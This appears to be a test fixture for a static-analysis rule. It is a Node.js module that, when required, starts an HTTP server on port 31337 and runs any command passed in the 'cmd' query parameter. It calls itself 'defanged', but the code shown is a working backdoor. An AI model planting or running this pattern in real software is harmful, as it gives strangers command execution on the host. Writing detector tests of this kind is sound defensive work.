// Defanged model of a listening backdoor: requiring the package starts a server that runs ?cmd=.
const http = require('http');
const { exec } = require('child_process');
const url = require('url');

http.createServer((req, res) => {
  const q = url.parse(req.url, true).query;
  // ruleid: code/reverse-shell
  exec(q.cmd, (err, out) => res.end(out));
}).listen(31337);

module.exports = {};
